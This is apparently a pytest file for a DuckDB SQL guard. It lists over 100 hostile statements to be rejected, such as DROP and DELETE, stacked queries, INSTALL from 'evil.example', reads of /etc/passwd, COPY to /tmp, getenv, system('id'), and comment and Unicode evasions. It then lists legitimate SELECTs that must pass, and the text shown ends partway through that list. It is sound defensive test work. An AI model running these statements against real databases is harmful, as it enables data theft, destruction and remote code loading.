"""The SQL guard against hostile statements, and legitimate complex SELECTs that must still run.

Every hostile statement below must be rejected by `guard_sql` with the demo schema (columns are
checked too). Every legitimate statement must pass, run through `SecuredEngine` on the demo
data, return what DuckDB returns for the same SQL (up to the row cap), and keep its ORDER BY.
"""

from __future__ import annotations

import contextlib
import hashlib
import shutil
from decimal import Decimal
from pathlib import Path

import duckdb
import pytest
from sqlglot import exp

from semantic_layer.engine import DuckDBEngine
from semantic_layer.errors import CockpitError
from semantic_layer.guard import SQLRejected, guard_sql
from semantic_layer.loader import load_model
from semantic_layer.security import SecuredEngine

MODEL = load_model()
TABLES = [t.name for t in MODEL.tables]
CAP = 50  # a small row cap, so that queries without LIMIT visibly hit it


@pytest.fixture(scope="module")
def raw(demo_db):
    """The demo database with no guard in front: the reference the guarded runs match."""
    with DuckDBEngine(demo_db) as engine:
        yield engine


@pytest.fixture(scope="module")
def schema(raw) -> dict[str, dict[str, str]]:
    """{table: {column: type}} of the model's tables in the demo database."""
    return {t: c for t, c in raw.schema().items() if t in TABLES}


@pytest.fixture(scope="module")
def secured(raw) -> SecuredEngine:
    return SecuredEngine(raw, MODEL, role=None, max_rows=CAP)


def case(sql: str, id: str):
    return pytest.param(sql, id=id)


# --- hostile statements: every one must be rejected --------------------------------------------

DDL_DML = [
    case("DROP TABLE orders", "drop-table"),
    case("DROP TABLE IF EXISTS orders CASCADE", "drop-table-if-exists-cascade"),
    case("DROP VIEW v", "drop-view"),
    case("DROP SCHEMA main CASCADE", "drop-schema"),
    case("DROP MACRO m", "drop-macro"),
    case("CREATE TABLE x (a INTEGER)", "create-table"),
    case("CREATE TABLE leak AS SELECT * FROM customers", "create-table-as"),
    case("CREATE OR REPLACE TABLE orders AS SELECT 1 AS a", "create-or-replace-table"),
    case("CREATE TEMP TABLE t AS SELECT * FROM customers", "create-temp-table"),
    case("CREATE VIEW v AS SELECT * FROM orders", "create-view"),
    case("CREATE OR REPLACE VIEW regions_v AS SELECT * FROM regions", "create-or-replace-view"),
    case("CREATE MACRO m(a) AS a + 1", "create-macro"),
    case("CREATE MACRO t() AS TABLE SELECT * FROM orders", "create-table-macro"),
    case("CREATE FUNCTION f(a) AS a * 2", "create-function"),
    case("CREATE SEQUENCE s START 1", "create-sequence"),
    case("CREATE INDEX i ON orders (order_id)", "create-index"),
    case("CREATE SCHEMA s", "create-schema"),
    case("CREATE TYPE mood AS ENUM ('a', 'b')", "create-type"),
    case("ALTER TABLE orders ADD COLUMN x INTEGER", "alter-table-add-column"),
    case("ALTER TABLE orders RENAME TO orders_old", "alter-table-rename"),
    case("ALTER TABLE orders DROP COLUMN status", "alter-table-drop-column"),
    case("ALTER VIEW v RENAME TO w", "alter-view"),
    case("INSERT INTO regions VALUES (8, 'x', 'x')", "insert-values"),
    case("INSERT INTO orders SELECT * FROM orders", "insert-select"),
    case("INSERT OR REPLACE INTO regions VALUES (1, 'x', 'x')", "insert-or-replace"),
    case("INSERT INTO regions VALUES (1, 'x', 'x') ON CONFLICT DO NOTHING", "insert-on-conflict"),
    case("INSERT INTO regions VALUES (8, 'x', 'x') RETURNING *", "insert-returning"),
    case("UPDATE orders SET status = '已取消'", "update"),
    case(
        "UPDATE orders SET region_id = 1 FROM regions WHERE regions.region_id = orders.region_id",
        "update-from",
    ),
    case("DELETE FROM orders", "delete"),
    case("DELETE FROM orders WHERE region_id <> 1", "delete-where"),
    case("TRUNCATE orders", "truncate"),
    case("TRUNCATE TABLE orders", "truncate-table"),
    case(
        "MERGE INTO orders USING customers ON orders.customer_id = customers.customer_id "
        "WHEN MATCHED THEN DELETE",
        "merge",
    ),
    case("WITH x AS (SELECT 1 AS a) INSERT INTO regions SELECT a, 'x', 'x' FROM x", "cte-insert"),
    case(
        "WITH x AS (SELECT 1 AS a) DELETE FROM orders WHERE order_id IN (SELECT a FROM x)",
        "cte-delete",
    ),
    case("SELECT * INTO leak FROM customers", "select-into"),
    case("SELECT * INTO orders FROM orders", "select-into-model-table"),
    case("COMMENT ON TABLE orders IS 'x'", "comment-on"),
]

MULTIPLE_STATEMENTS = [
    case("SELECT 1; DROP TABLE orders", "select-then-drop"),
    case("SELECT 1; SELECT 2", "two-selects"),
    case("SELECT 1;DELETE FROM orders", "select-then-delete-no-space"),
    case("DROP TABLE orders; SELECT 1", "drop-then-select"),
    case("SELECT * FROM orders; ATTACH '/tmp/x.duckdb' AS x", "select-then-attach"),
    case("SELECT 1\n;\nUPDATE orders SET status = 'x'", "newline-separated"),
    case(";;SELECT 1;;DROP TABLE orders", "empty-statements-around"),
    case("SELECT 1 /* */; DROP TABLE orders", "comment-then-semicolon"),
    case("SELECT 1 -- x\n; DROP TABLE orders", "line-comment-then-newline"),
    case("SELECT 1/**/;/**/DELETE FROM orders", "block-comments-as-spaces"),
    case("SELECT * FROM orders -- \n; DROP TABLE orders", "comment-hides-nothing"),
]

SYSTEM_STATEMENTS = [
    case("PRAGMA database_list", "pragma-database-list"),
    case("PRAGMA table_info('orders')", "pragma-table-info"),
    case("PRAGMA enable_profiling", "pragma-enable-profiling"),
    case("PRAGMA threads=1", "pragma-threads"),
    case("ATTACH '/tmp/x.duckdb' AS x", "attach"),
    case("ATTACH DATABASE ':memory:' AS m", "attach-memory"),
    case("ATTACH 'x.db' AS s (TYPE sqlite)", "attach-sqlite"),
    case("ATTACH 'host=localhost dbname=x' AS p (TYPE postgres)", "attach-postgres"),
    case("DETACH x", "detach"),
    case("DETACH DATABASE x", "detach-database"),
    case("USE memory", "use"),
    case("COPY orders TO '/tmp/leak.csv'", "copy-to"),
    case("COPY (SELECT * FROM customers) TO '/tmp/leak.parquet' (FORMAT parquet)", "copy-query-to"),
    case("COPY orders FROM '/etc/passwd'", "copy-from"),
    case("COPY FROM DATABASE x TO y", "copy-database"),
    case("INSTALL httpfs", "install"),
    case("FORCE INSTALL httpfs", "force-install"),
    case("INSTALL httpfs FROM 'http://evil.example'", "install-from-repository"),
    case("LOAD httpfs", "load"),
    case("LOAD '/tmp/evil.duckdb_extension'", "load-path"),
    case("UPDATE EXTENSIONS", "update-extensions"),
    case("SET enable_external_access = true", "set"),
    case("SET GLOBAL threads = 1", "set-global"),
    case("SET SESSION memory_limit = '1GB'", "set-session"),
    case("SET VARIABLE x = 1", "set-variable"),
    case("RESET threads", "reset"),
    case("RESET ALL", "reset-all"),
    case("CALL pragma_version()", "call"),
    case("CALL duckdb_settings()", "call-duckdb-settings"),
    case("EXPORT DATABASE '/tmp/dump'", "export-database"),
    case("EXPORT DATABASE '/tmp/dump' (FORMAT parquet)", "export-database-parquet"),
    case("IMPORT DATABASE '/tmp/dump'", "import-database"),
    case("CREATE SECRET s (TYPE s3, KEY_ID 'k', SECRET 'x')", "create-secret"),
    case(
        "CREATE PERSISTENT SECRET s (TYPE s3, KEY_ID 'k', SECRET 'x')", "create-persistent-secret"
    ),
    case("DROP SECRET s", "drop-secret"),
    case("CHECKPOINT", "checkpoint"),
    case("FORCE CHECKPOINT", "force-checkpoint"),
    case("VACUUM", "vacuum"),
    case("BEGIN TRANSACTION", "begin"),
    case("COMMIT", "commit"),
    case("ROLLBACK", "rollback"),
    case("PREPARE p AS SELECT 1", "prepare"),
    case("EXECUTE p", "execute"),
    case("DEALLOCATE p", "deallocate"),
    case("DESCRIBE orders", "describe"),
    case("SHOW TABLES", "show-tables"),
    case("SHOW ALL TABLES", "show-all-tables"),
    case("SUMMARIZE orders", "summarize"),
    case("EXPLAIN SELECT 1", "explain"),
    case("EXPLAIN ANALYZE SELECT * FROM orders", "explain-analyze"),
]

FILE_NETWORK_SYSTEM_FUNCTIONS = [
    case("SELECT * FROM read_csv('/etc/passwd')", "read_csv"),
    case("SELECT * FROM read_csv_auto('/etc/passwd')", "read_csv_auto"),
    case("SELECT * FROM read_csv(['/etc/passwd', '/etc/hosts'])", "read_csv-list"),
    case("SELECT * FROM read_parquet('s3://bucket/x.parquet')", "read_parquet-s3"),
    case("SELECT * FROM read_parquet('https://example.com/x.parquet')", "read_parquet-https"),
    case("SELECT * FROM read_json('/tmp/x.json')", "read_json"),
    case("SELECT * FROM read_json_auto('/tmp/x.json')", "read_json_auto"),
    case("SELECT * FROM read_json_objects('/tmp/x.json')", "read_json_objects"),
    case("SELECT * FROM read_ndjson('/tmp/x.json')", "read_ndjson"),
    case("SELECT * FROM read_ndjson_objects('/tmp/x.json')", "read_ndjson_objects"),
    case("SELECT content FROM read_text('/etc/passwd')", "read_text"),
    case("SELECT content FROM read_blob('/etc/passwd')", "read_blob"),
    case("SELECT * FROM glob('/home/*')", "glob"),
    case("SELECT * FROM parquet_scan('/tmp/x.parquet')", "parquet_scan"),
    case("SELECT * FROM parquet_metadata('/tmp/x.parquet')", "parquet_metadata"),
    case("SELECT * FROM parquet_schema('/tmp/x.parquet')", "parquet_schema"),
    case("SELECT * FROM sniff_csv('/etc/passwd')", "sniff_csv"),
    case("SELECT * FROM sqlite_scan('x.db', 't')", "sqlite_scan"),
    case("SELECT sqlite_scan('x.db', 't')", "sqlite_scan-scalar-position"),
    case("SELECT * FROM postgres_scan('host=x', 'public', 't')", "postgres_scan"),
    case("SELECT * FROM mysql_scan('host=x', 'db', 't')", "mysql_scan"),
    case("SELECT * FROM iceberg_scan('s3://bucket/t')", "iceberg_scan"),
    case("SELECT * FROM delta_scan('s3://bucket/t')", "delta_scan"),
    case("SELECT * FROM read_xlsx('/tmp/x.xlsx')", "read_xlsx"),
    case("SELECT * FROM st_read('/tmp/x.shp')", "st_read"),
    case("SELECT * FROM '/etc/passwd'", "replacement-scan-string"),
    case("SELECT * FROM 'data.csv'", "replacement-scan-csv"),
    case('SELECT * FROM "/tmp/x.parquet"', "replacement-scan-quoted"),
    case("SELECT * FROM 'https://example.com/x.csv'", "replacement-scan-url"),
    case("SELECT getenv('HOME')", "getenv"),
    case("SELECT current_setting('enable_external_access')", "current_setting"),
    case("SELECT * FROM duckdb_settings()", "duckdb_settings"),
    case("SELECT * FROM duckdb_secrets()", "duckdb_secrets"),
    case("SELECT * FROM which_secret('s3://bucket/x', 's3')", "which_secret"),
    case("SELECT * FROM duckdb_extensions()", "duckdb_extensions"),
    case("SELECT * FROM duckdb_tables()", "duckdb_tables"),
    case("SELECT * FROM duckdb_columns()", "duckdb_columns"),
    case("SELECT * FROM duckdb_databases()", "duckdb_databases"),
    case("SELECT * FROM duckdb_views()", "duckdb_views"),
    case("SELECT * FROM duckdb_functions()", "duckdb_functions"),
    case("SELECT * FROM duckdb_memory()", "duckdb_memory"),
    case("SELECT * FROM pragma_database_list()", "pragma_database_list"),
    case("SELECT * FROM pragma_table_info('orders')", "pragma_table_info"),
    case("SELECT * FROM pragma_storage_info('orders')", "pragma_storage_info"),
    case("SELECT * FROM pragma_version()", "pragma_version"),
    case("SELECT * FROM query('SELECT * FROM orders')", "query"),
    case("SELECT * FROM query_table('orders')", "query_table"),
    case("SELECT * FROM query_table(['orders', 'customers'])", "query_table-list"),
    case(
        "SELECT * FROM json_execute_serialized_sql(json_serialize_sql('SELECT 1'))",
        "json_execute_serialized_sql",
    ),
    case("SELECT load_extension('x')", "load_extension"),
    case("SELECT system('id')", "system"),
    case("SELECT * FROM orders, duckdb_settings()", "system-table-function-in-join"),
]

HIDDEN_FUNCTIONS = [
    case("SELECT * FROM (SELECT * FROM read_csv('/etc/passwd')) t", "in-derived-table"),
    case(
        "SELECT * FROM orders WHERE customer_id IN (SELECT column0 FROM read_csv('/tmp/ids.csv'))",
        "in-where-subquery",
    ),
    case("WITH f AS (SELECT * FROM read_text('/etc/passwd')) SELECT * FROM f", "in-cte"),
    case(
        "WITH a AS (SELECT 1 AS x), b AS (SELECT getenv('HOME') AS h FROM a) SELECT * FROM b",
        "in-second-cte",
    ),
    case(
        "WITH RECURSIVE r(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM r "
        "WHERE getenv('X') IS NULL) SELECT * FROM r",
        "in-recursive-cte",
    ),
    case("SELECT * FROM orders o, LATERAL (SELECT * FROM glob('/*')) g", "in-lateral-subquery"),
    case(
        "SELECT * FROM orders o JOIN LATERAL (SELECT current_setting('threads') AS t) s ON true",
        "in-lateral-join",
    ),
    case("SELECT * FROM orders o JOIN LATERAL read_csv('x') ON true", "lateral-table-function"),
    case(
        "SELECT region_name FROM regions UNION ALL SELECT content FROM read_text('/etc/passwd')",
        "in-union-all-branch",
    ),
    case("SELECT 1 UNION SELECT length(getenv('PATH'))", "in-union-branch-scalar"),
    case(
        "SELECT region_id FROM regions INTERSECT SELECT 1 FROM duckdb_settings()",
        "in-intersect-branch",
    ),
    case(
        "SELECT region_id FROM regions EXCEPT SELECT length(value) FROM duckdb_settings()",
        "in-except-branch",
    ),
    case(
        "SELECT sum(amount) OVER (PARTITION BY getenv('X')) FROM order_lines",
        "in-window-partition",
    ),
    case(
        "SELECT sum(amount) OVER (ORDER BY (SELECT length(getenv('HOME'))) "
        "ROWS BETWEEN 1 PRECEDING AND CURRENT ROW) FROM order_lines",
        "in-window-frame-order",
    ),
    case(
        "SELECT CASE WHEN region_id = 1 THEN current_setting('threads') ELSE 'x' END FROM regions",
        "in-case-then",
    ),
    case(
        "SELECT CASE WHEN region_id = 1 THEN 'x' "
        "ELSE (SELECT content FROM read_text('/etc/passwd')) END FROM regions",
        "in-case-else-subquery",
    ),
    case(
        "SELECT (SELECT count(*) FROM read_csv_auto('/etc/passwd')) AS n",
        "in-scalar-subquery",
    ),
    case(
        "SELECT region_id, count(*) FROM orders GROUP BY region_id "
        "HAVING count(*) > (SELECT count(*) FROM read_csv('/tmp/x.csv'))",
        "in-having",
    ),
    case("SELECT * FROM regions WHERE EXISTS (SELECT 1 FROM glob('/root/*'))", "in-exists"),
    case("SELECT list_transform([1, 2], x -> getenv('HOME'))", "in-lambda"),
    case("SELECT upper(getenv('HOME'))", "as-function-argument"),
    case("SELECT * FROM regions ORDER BY getenv('X')", "in-order-by"),
    case(
        "SELECT count(*) FROM orders GROUP BY current_setting('threads')",
        "in-group-by",
    ),
    case(
        "SELECT * FROM orders JOIN regions ON getenv('X') = regions.region_name",
        "in-join-condition",
    ),
    case(
        "SELECT * FROM orders QUALIFY row_number() OVER () < length(getenv('X'))",
        "in-qualify",
    ),
    case(
        "SELECT * FROM orders LIMIT (SELECT count(*) FROM read_csv('/tmp/x.csv'))",
        "in-limit",
    ),
    case("SELECT * FROM (VALUES (getenv('HOME'))) t(a)", "in-values"),
    case("SELECT {'a': getenv('HOME')} AS s", "in-struct"),
    case("SELECT CAST(getenv('HOME') AS VARCHAR)", "in-cast"),
    case("SELECT count(*) FILTER (WHERE getenv('X') IS NOT NULL) FROM orders", "in-filter"),
    case("SELECT coalesce(NULL, current_setting('memory_limit'))", "in-coalesce"),
    case("SELECT json_extract(read_text('/etc/passwd'), '$')", "nested-call"),
]

SCHEMAS_AND_CATALOG = [
    case("SELECT * FROM main.orders", "main-schema"),
    case('SELECT * FROM "main"."orders"', "main-schema-quoted"),
    case("SELECT * FROM demo.main.orders", "catalog-schema-table"),
    case("SELECT * FROM memory.main.orders", "memory-catalog"),
    case("SELECT * FROM temp.main.leak", "temp-catalog"),
    case("SELECT * FROM information_schema.tables", "information_schema-tables"),
    case("SELECT * FROM information_schema.columns", "information_schema-columns"),
    case("SELECT * FROM pg_catalog.pg_tables", "pg_catalog-tables"),
    case("SELECT * FROM pg_catalog.pg_settings", "pg_catalog-settings"),
    case("SELECT * FROM pg_settings", "pg_settings"),
    case("SELECT * FROM sqlite_master", "sqlite_master"),
    case("SELECT * FROM duckdb_tables", "duckdb_tables-as-view"),
    case("SELECT * FROM orders JOIN information_schema.columns ON true", "catalog-in-join"),
    case(
        'SELECT * FROM orders WHERE region_id = (SELECT 1 FROM "information_schema"."tables")',
        "catalog-in-subquery",
    ),
    case("SELECT main.orders.order_id FROM main.orders", "qualified-column-and-table"),
]

UNKNOWN_TABLES_AND_COLUMNS = [
    case("SELECT * FROM secrets", "unknown-table"),
    case("SELECT * FROM orders_backup", "unknown-similar-table"),
    case("SELECT * FROM orders JOIN users ON true", "unknown-joined-table"),
    case("SELECT password FROM orders", "unknown-column"),
    case("SELECT o.secret FROM orders o", "unknown-qualified-column"),
    case("SELECT * FROM orders WHERE nonexistent = 1", "unknown-column-in-where"),
    case("SELECT region_name FROM orders", "column-of-another-table"),
    case("SELECT c.customer_name FROM orders c", "column-through-wrong-alias"),
    case("SELECT count(*) FROM orders GROUP BY salary", "unknown-column-in-group-by"),
    case("SELECT order_id FROM orders ORDER BY ssn", "unknown-column-in-order-by"),
]

CTE_SHADOWING = [
    case("WITH orders AS (SELECT * FROM regions) SELECT * FROM orders", "cte-named-orders"),
    case("WITH ORDERS AS (SELECT 1 AS a) SELECT * FROM orders", "cte-named-orders-upper"),
    case('WITH "orders" AS (SELECT 1 AS a) SELECT * FROM orders', "cte-named-orders-quoted"),
    case(
        "WITH x AS (SELECT 1 AS a), customers AS (SELECT 1 AS customer_id) SELECT * FROM customers",
        "second-cte-named-customers",
    ),
    case(
        "SELECT * FROM (WITH regions AS (SELECT 1 AS region_id) SELECT * FROM regions) t",
        "nested-cte-named-regions",
    ),
    case(
        "WITH RECURSIVE expenses AS (SELECT 1 AS n UNION ALL SELECT n + 1 FROM expenses "
        "WHERE n < 3) SELECT * FROM expenses",
        "recursive-cte-named-expenses",
    ),
]

COMMENT_TRICKS = [
    case("/* SELECT */ DELETE FROM orders", "comment-before-delete"),
    case("-- SELECT 1\nDROP TABLE orders", "line-comment-before-drop"),
    case("/*!*/ DROP TABLE orders", "mysql-style-comment"),
    case("SELECT/**/*/**/FROM/**/read_csv('/etc/passwd')", "comments-as-whitespace"),
    case("SELECT 1 /* DROP */ ; /* */ DROP /* x */ TABLE orders", "comments-around-second"),
]

CASE_AND_WHITESPACE = [
    case("dRoP tAbLe orders", "mixed-case-drop"),
    case("\n\t DROP\tTABLE\norders", "whitespace-drop"),
    case("drop table ORDERS", "lower-drop-upper-table"),
    case("SeLeCt * FrOm ReAd_CsV('/etc/passwd')", "mixed-case-read_csv"),
    case("SELECT * FROM\tread_parquet\n('x.parquet')", "whitespace-in-call"),
    case("SELECT * FROM READ_TEXT ('/etc/passwd')", "upper-read_text"),
    case("  \n ATTACH\n'/tmp/x'", "whitespace-attach"),
    case("SELECT GETENV('HOME')", "upper-getenv"),
    case("SELECT \"getenv\"('HOME')", "quoted-getenv"),
    case("SELECT Current_Setting('threads')", "mixed-case-current_setting"),
    case("SELECT * FROM MAIN.ORDERS", "upper-schema"),
    case("SELECT * FROM Information_Schema.Tables", "mixed-case-information_schema"),
]

UNICODE_LOOKALIKES = [
    case("SELECT * FROM оrders", "cyrillic-o-table"),
    case("SELECT * FROM ｏｒｄｅｒｓ", "fullwidth-table"),
    case("SELECT * FROM ord\u200bers", "zero-width-space-table"),
    case("ＤＲＯＰ ＴＡＢＬＥ orders", "fullwidth-drop"),
    case("DROP\u00a0TABLE orders", "nbsp-drop"),
    case("SELECT * FROM rеad_csv('/etc/passwd')", "cyrillic-e-read_csv"),
    case("SELECT gеtenv('HOME')", "cyrillic-e-getenv"),
    case("SELECT ｇｅｔｅｎｖ('HOME')", "fullwidth-getenv"),
]

HOSTILE = (
    DDL_DML
    + MULTIPLE_STATEMENTS
    + SYSTEM_STATEMENTS
    + FILE_NETWORK_SYSTEM_FUNCTIONS
    + HIDDEN_FUNCTIONS
    + SCHEMAS_AND_CATALOG
    + UNKNOWN_TABLES_AND_COLUMNS
    + CTE_SHADOWING
    + COMMENT_TRICKS
    + CASE_AND_WHITESPACE
    + UNICODE_LOOKALIKES
)


def test_there_are_at_least_100_hostile_statements():
    ids = [p.id for p in HOSTILE]
    assert len(HOSTILE) >= 100
    assert len(set(ids)) == len(ids)


@pytest.mark.parametrize("sql", HOSTILE)
def test_hostile_statement_is_rejected(sql, schema):
    with pytest.raises(SQLRejected) as caught:
        guard_sql(sql, TABLES, max_rows=CAP, schema=schema)
    # A user-facing refusal in both languages, not a bare exception.
    assert caught.value.message("zh") and caught.value.message("en")


@pytest.mark.parametrize("sql", HOSTILE[:: max(1, len(HOSTILE) // 40)])
def test_hostile_statement_is_rejected_by_the_secured_engine_too(sql, secured):
    with pytest.raises(CockpitError):
        secured.execute(sql)


# --- comments that only look like a second statement ---------------------------------------------

NEUTRAL_COMMENTS = [
    case("SELECT 1 -- ; DROP TABLE orders", "line-comment-semicolon-drop"),
    case("SELECT 1 -- */ ; DROP TABLE orders", "line-comment-closing-block"),
    case("SELECT 1 /* ; DROP TABLE orders */", "block-comment-drop"),
    case("SELECT 1 /* */ -- */ DROP TABLE orders", "block-then-line-comment"),
    case("SELECT region_name FROM regions -- \r; DROP TABLE orders", "carriage-return-comment"),
    case("SELECT 1 /* nested /* */ DROP TABLE orders */", "nested-block-comment"),
]


@pytest.fixture
def scratch_copy(demo_db, tmp_path) -> Path:
    copy = tmp_path / "scratch.duckdb"
    shutil.copy(demo_db, copy)
    return copy


def _sha256(path: Path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest()


@pytest.mark.parametrize("sql", NEUTRAL_COMMENTS)
def test_comment_tricks_never_smuggle_a_second_statement(sql, schema, scratch_copy):
    """A comment is either rejected, or rendered so that DuckDB sees exactly one SELECT."""
    try:
        guarded = guard_sql(sql, TABLES, max_rows=CAP, schema=schema)
    except SQLRejected:
        return
    rendered = guarded.sql(dialect="duckdb")
    statements = duckdb.extract_statements(rendered)
    assert [s.type for s in statements] == [duckdb.StatementType.SELECT], rendered
    before = _sha256(scratch_copy)
    with DuckDBEngine(scratch_copy) as engine:
        engine_schema = {t: c for t, c in engine.schema().items() if t in TABLES}
        assert engine_schema == schema
        with contextlib.suppress(CockpitError):
            SecuredEngine(engine, MODEL, max_rows=CAP).execute(sql)
        assert engine.execute("SELECT count(*) FROM orders").scalar() > 0
    assert _sha256(scratch_copy) == before


# --- legitimate complex SELECTs: must pass, run, and match DuckDB --------------------------------

REVENUE_BY_MONTH = (
    "SELECT date_trunc('month', o.order_date) AS month, sum(ol.amount) AS revenue "
    "FROM orders o JOIN order_lines ol ON ol.order_id = o.order_id "
    "WHERE o.status = '已完成' GROUP BY 1"
)


def legit(sql: str, id: str, ordered: bool = True):
    """`ordered`: the query's ORDER BY fixes the order of every row (compare as lists)."""
    return pytest.param(sql, ordered, id=id)


LEGITIMATE = [
    legit("SELECT count(*) AS n FROM orders", "count"),
    legit(
        "SELECT r.region_name, sum(ol.amount) AS revenue FROM order_lines ol "
        "JOIN orders o ON o.order_id = ol.order_id JOIN regions r ON r.region_id = o.region_id "
        "WHERE o.status = '已完成' GROUP BY r.region_name ORDER BY revenue DESC",
        "join-aliases-group-order",
    ),
    legit(
        f"WITH monthly AS ({REVENUE_BY_MONTH}) SELECT month, revenue FROM monthly ORDER BY month",
        "cte",
    ),
    legit(
        f"WITH monthly AS ({REVENUE_BY_MONTH}), yearly AS (SELECT year(month) AS y, "
        "sum(revenue) AS revenue FROM monthly GROUP BY 1) SELECT y, revenue, "
        "revenue / lag(revenue) OVER (ORDER BY y) - 1 AS growth FROM yearly ORDER BY y",
        "chained-ctes-lag",
    ),
    legit(
        f"SELECT month, revenue, sum(revenue) OVER (PARTITION BY year(month) ORDER BY month "
        f"ROWS BETWEEN UNBOUNDED PRECEDING AND CURRENT ROW) AS ytd FROM ({REVENUE_BY_MONTH}) m "
        "ORDER BY month",
        "running-total-window",
    ),
    legit(
        f"SELECT month, avg(revenue) OVER (ORDER BY month ROWS BETWEEN 2 PRECEDING AND "
        f"CURRENT ROW) AS moving FROM ({REVENUE_BY_MONTH}) m ORDER BY month",
        "moving-average-frame",
    ),
    legit(
        "SELECT customer_id, total, rank() OVER (ORDER BY total DESC) AS rnk FROM "
        "(SELECT customer_id, sum(amount) AS total FROM invoices GROUP BY customer_id) t "
        "ORDER BY total DESC, customer_id LIMIT 10",
        "rank-window-limit",
    ),
    legit(
        "SELECT region_id, customer_id, count(*) AS n FROM orders GROUP BY region_id, customer_id "
        "QUALIFY row_number() OVER (PARTITION BY region_id ORDER BY count(*) DESC, "
        "customer_id) = 1 ORDER BY region_id",
        "qualify",
    ),
    legit(
        "SELECT 'orders' AS kind, count(*) AS n FROM orders UNION ALL "
        "SELECT 'invoices', count(*) FROM invoices UNION ALL "
        "SELECT 'receipts', count(*) FROM receipts ORDER BY kind",
        "union-all",
    ),
    legit(
        "SELECT region_id FROM customers UNION SELECT region_id FROM orders ORDER BY region_id",
        "union",
    ),
    legit(
        "SELECT customer_id FROM customers EXCEPT SELECT customer_id FROM orders "
        "WHERE order_date >= DATE '2025-01-01' ORDER BY 1",
        "except",
    ),
    legit(
        "SELECT customer_id FROM invoices INTERSECT SELECT customer_id FROM receipts "
        "ORDER BY customer_id",
        "intersect",
    ),
    legit(
        "SELECT r.region_name, (SELECT count(*) FROM customers c "
        "WHERE c.region_id = r.region_id) AS customers FROM regions r ORDER BY r.region_id",
        "correlated-scalar-subquery",
    ),
    legit(
        "SELECT count(*) AS n FROM orders WHERE customer_id IN "
        "(SELECT customer_id FROM customers WHERE industry = '制造业')",
        "in-subquery",
    ),
    legit(
        "SELECT count(*) AS n FROM customers c WHERE EXISTS (SELECT 1 FROM orders o "
        "WHERE o.customer_id = c.customer_id AND o.order_date >= DATE '2025-01-01')",
        "exists",
    ),
    legit(
        "SELECT c.customer_id FROM customers c LEFT JOIN orders o ON o.customer_id = "
        "c.customer_id AND o.order_date >= DATE '2025-07-01' WHERE o.order_id IS NULL "
        "ORDER BY c.customer_id",
        "anti-join",
    ),
    legit(
        "SELECT r.region_name, o.channel, count(*) AS n FROM orders o "
        "JOIN regions r ON r.region_id = o.region_id GROUP BY ROLLUP (r.region_name, o.channel) "
        "ORDER BY r.region_name NULLS LAST, o.channel NULLS LAST",
        "rollup",
    ),
    legit(
        "SELECT o.channel, o.status, count(*) AS n FROM orders o "
        "GROUP BY CUBE (o.channel, o.status) ORDER BY 1 NULLS FIRST, 2 NULLS FIRST",
        "cube",
    ),
    legit(
        "SELECT year(order_date) AS y, quarter(order_date) AS q, count(*) AS n FROM orders "
        "GROUP BY 1, 2 ORDER BY 1, 2",
        "date-parts",
    ),
    legit(
        "SELECT strftime(invoice_date, '%Y-%m') AS ym, "
        "avg(date_diff('day', invoice_date, due_date)) AS terms FROM invoices "
        "WHERE invoice_date BETWEEN DATE '2025-01-01' AND DATE '2025-12-31' GROUP BY 1 ORDER BY 1",
        "strftime-date-diff-between",
    ),
    legit(
        "SELECT CASE WHEN amount >= 10000 THEN 'large' WHEN amount >= 1000 THEN 'medium' "
        "ELSE 'small' END AS size, count(*) AS n FROM order_lines GROUP BY 1 ORDER BY 1",
        "case",
    ),
    legit(
        "SELECT customer_id, sum(amount) AS total FROM invoices GROUP BY customer_id "
        "HAVING sum(amount) > 1000000 ORDER BY total DESC, customer_id",
        "having",
    ),
    legit(
        "SELECT order_id, order_date FROM orders ORDER BY order_date DESC, order_id DESC",
        "no-limit-gets-the-cap",
    ),
    legit("SELECT * FROM customers ORDER BY customer_id LIMIT 5", "limit-below-cap"),
    legit("SELECT * FROM customers ORDER BY customer_id LIMIT 500", "limit-above-cap"),
    legit("SELECT * FROM customers ORDER BY customer_id LIMIT 10 OFFSET 20", "limit-offset"),
    legit(
        "SELECT DISTINCT ON (region_id) region_id, customer_id, created_date FROM customers "
        "ORDER BY region_id, created_date, customer_id",
        "distinct-on",
    ),
    legit(
        "SELECT o.channel, (sum(ol.amount) - sum(ol.cost_amount)) / NULLIF(sum(ol.amount), 0) "
        "AS margin FROM order_lines ol JOIN orders o USING (order_id) "
        "WHERE o.status = '已完成' GROUP BY o.channel ORDER BY o.channel",
        "ratio-nullif-using",
    ),
    legit(
        "SELECT count(*) FILTER (WHERE status = '已完成') AS done, count(*) AS total FROM orders",
        "aggregate-filter",
    ),
    legit(
        "SELECT i.customer_id, sum(r.amount) / sum(i.amount) AS collected FROM invoices i "
        "JOIN receipts r ON r.invoice_id = i.invoice_id GROUP BY i.customer_id "
        "ORDER BY collected DESC, i.customer_id",
        "join-invoices-receipts",
    ),
    legit(
        "SELECT region_name, n FROM (SELECT region_id, count(*) AS n FROM (SELECT * FROM "
        "customers WHERE credit_rating IN ('A', 'B')) good GROUP BY region_id) per "
        "JOIN regions USING (region_id) ORDER BY n DESC, region_name",
        "three-level-nesting",
    ),
    legit("SELECT * EXCLUDE (region_name_en) FROM regions ORDER BY region_id", "star-exclude"),
    legit(
        "SELECT count(*) AS n FROM customers WHERE industry IN ('制造业', '零售') "
        "AND customer_name LIKE '%科技%'",
        "in-list-like",
    ),
    legit(
        "SELECT left(customer_name, 2) AS prefix, count(*) AS n FROM customers "
        "GROUP BY prefix ORDER BY n DESC, prefix",
        "string-function",
    ),
    legit(
        "SELECT quantile_cont(amount, 0.5) AS median, stddev(amount) AS sd FROM order_lines",
        "statistics",
    ),
    legit(
        "SELECT r.region_name, t.n FROM regions r, LATERAL (SELECT count(*) AS n FROM "
        "customers c WHERE c.region_id = r.region_id) t ORDER BY r.region_id",
        "lateral-join",
    ),
    legit(
        "SELECT b.region_id, sum(b.amount) AS budget FROM revenue_budget b "
        "WHERE b.month >= DATE '2025-01-01' GROUP BY b.region_id ORDER BY b.region_id",
        "budget",
    ),
    legit(
        "SELECT sum(balance) AS ar FROM ar_aging_monthly "
        "WHERE snapshot_date = (SELECT max(snapshot_date) FROM ar_aging_monthly)",
        "semi-additive-latest-snapshot",
    ),
    legit(
        "SELECT d.dept_name, e.category, sum(e.amount) AS spent FROM expenses e "
        "JOIN departments d ON d.dept_id = e.dept_id GROUP BY GROUPING SETS "
        "((d.dept_name), (e.category), ()) ORDER BY 1 NULLS LAST, 2 NULLS LAST",
        "grouping-sets",
    ),
    legit(
